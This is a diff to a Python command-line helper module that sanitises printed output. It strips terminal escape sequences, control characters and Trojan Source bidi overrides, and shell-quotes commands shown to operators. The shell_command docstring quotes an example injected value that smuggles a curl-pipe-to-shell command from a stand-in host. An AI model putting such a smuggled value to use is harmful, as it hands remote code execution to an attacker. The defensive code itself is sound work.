@@ -1,7 +1,12 @@
-"""Shared pieces of the command line: workspace and format options, JSON output, errors.
+"""Shared pieces of the command line: workspace and format options, output, errors.
 
 Every capability keeps its commands in its own ``commands.py`` built from these, and
 ``cli.py`` only lists them, so the CLI stays a thin layer over the library.
+
+Everything a command prints goes through :func:`echo` (or :func:`note`, :func:`emit_json`),
+because much of it is text an attacker chose: a token's ``sub`` or ``kid``, a route, a user
+agent. Printed raw, an escape sequence in it could retitle the terminal, rewrite what is on the
+screen or, on some terminals, answer back as if typed. :func:`terminal_safe` defuses them.
 """
 
 from __future__ import annotations
@@ -9,6 +14,8 @@ from __future__ import annotations
 import datetime as dt
 import functools
 import json
+import re
+import shlex
 import sys
 from collections.abc import Callable
 from pathlib import Path
@@ -70,13 +77,53 @@ def dumps(obj: Any, indent: int | None = 2) -> str:
     return json.dumps(obj, default=_json_default, indent=indent, ensure_ascii=False)
 
 
+# Terminal output ----------------------------------------------------------------------------
+#: whole escape sequences first (so an OSC's text goes with it): OSC and the other string
+#: sequences (DCS, SOS, PM, APC) up to their terminator (or the end of the line, so an unended
+#: one cannot swallow what follows), CSI with its parameters, then any other ESC and the
+#: character after it; each in its 7-bit and 8-bit (C1) spelling
+_SEQUENCES = re.compile(
+    r"(?:\x1b[\]PX^_]|[\x90\x98\x9d\x9e\x9f])[^\x07\x1b\x9c\n]*(?:\x07|\x1b\\|\x9c)?"
+    r"|(?:\x1b\[|\x9b)[\x30-\x3f]*[\x20-\x2f]*[\x40-\x7e]?"
+    r"|\x1b[\x20-\x7e]?")
+#: C0 controls but tab and newline, DEL, C1 controls, and the Unicode bidirectional overrides
+#: and isolates, which can make `rm` look like `mr` (Trojan Source)
+_CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
+_JSON_UNSAFE = re.compile(r"[\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
+
+
+#: what stands where a sequence or a control character was: the text stays visibly different
+#: from the same text without it (`k-2019` and `k-2019<ESC>...` are two kids, not one)
+REPLACEMENT = "\ufffd"
+
+
+def terminal_safe(text: str) -> str:
+    """``text`` with every escape sequence and control character (but tab and newline) replaced
+    by one U+FFFD, so nothing in it acts on a terminal."""
+    return _CONTROLS.sub(REPLACEMENT, _SEQUENCES.sub(REPLACEMENT, text))
+
+
+def echo(message: Any = "", err: bool = False, nl: bool = True) -> None:
+    """Print for people: every line custodes prints goes through here (see the module docstring)."""
+    click.echo(terminal_safe(str(message)), err=err, nl=nl)
+
+
 def emit_json(obj: Any) -> None:
-    click.echo(dumps(obj))
+    """JSON on stdout. json escapes C0 controls itself; DEL, C1 and the bidi controls are escaped
+    here too (``\\u009b``): the same JSON value, nothing a terminal acts on."""
+    text = _JSON_UNSAFE.sub(lambda m: f"\\u{ord(m.group()):04x}", dumps(obj))
+    click.echo(text)
 
 
 def note(message: str) -> None:
     """A message for people, on stderr, so stdout stays clean for --format json."""
-    click.echo(message, err=True)
+    echo(message, err=True)
+
+
+def shell_command(*argv: str) -> str:
+    """A command line to show an operator, each word quoted for a POSIX shell: a ``kid`` such as
+    ``x; curl evil.example/x|sh #`` stays one argument when the line is pasted."""
+    return " ".join(shlex.quote(terminal_safe(str(word))) for word in argv)
 
 
 def stderr_is_terminal() -> bool:
@@ -99,3 +146,24 @@ def parse_time_option(value: str | None, option: str) -> dt.datetime | None:
     if parsed.tzinfo is None:
         raise click.BadParameter(f"{value!r} has no time zone; add Z or an offset", param_hint=option)
     return parsed.astimezone(dt.timezone.utc)
+
+
+def given_workspace(ctx: click.Context, own: str | None) -> Workspace:
+    """The workspace of a subcommand: its own ``--workspace``, else the nearest enclosing
+    command's (``custodes incidents --workspace W ack ID``), else the root's or the default."""
+    node = ctx.parent
+    while own is None and node is not None:
+        own = node.params.get("workspace_dir")
+        node = node.parent
+    return Workspace.open(own)
+
+
+def subcommand_workspace_option(fn: Callable) -> Callable:
+    """Like :func:`workspace_option`, for commands inside a group that has ``--workspace`` too."""
+
+    @click.option("--workspace", "workspace_dir", default=None, metavar="DIR", help=WORKSPACE_HELP)
+    @functools.wraps(fn)
+    def wrapper(*args, workspace_dir: str | None = None, **kwargs):
+        return fn(*args, workspace=given_workspace(click.get_current_context(), workspace_dir), **kwargs)
+
+    return wrapper
